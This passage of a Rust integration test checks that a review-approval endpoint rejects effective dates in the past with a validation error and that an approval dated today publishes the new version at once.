    // 2026-11-26 is the day before the test clock's 2026-11-27.
    for past in ["1999-01-01", "2026-11-26"] {
        let r = d
            .api(
                Method::POST,
                &review,
                Some(&reviewer),
                Some(json!({"approve": true, "effective_date": past})),
            )
            .await;
        assert_eq!(
            r.status,
            StatusCode::UNPROCESSABLE_ENTITY,
            "{past}: {}",
            r.text()
        );
        assert_eq!(code(&r), "effective_date_past");
        assert_eq!(r.json()["error"]["details"]["field"], "effective_date");
    }
    assert_eq!(d.app.store().count_audit().await.unwrap(), audit_before);
    let r = d
        .api(Method::GET, &format!("/api/v1/matters/{OWN}"), None, None)
        .await;
    assert_eq!(r.json()["version"]["version"], 1, "nothing published");
    // Today is fine, and puts the version in force at once.
    let r = d
        .api(
            Method::POST,
            &review,
            Some(&reviewer),
            Some(json!({"approve": true, "effective_date": "2026-11-27"})),
        )
        .await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.text());
    let r = d
        .api(Method::GET, &format!("/api/v1/matters/{OWN}"), None, None)
        .await;
    assert_eq!(r.json()["version"]["version"], 2);
    d.cleanup().await;
}
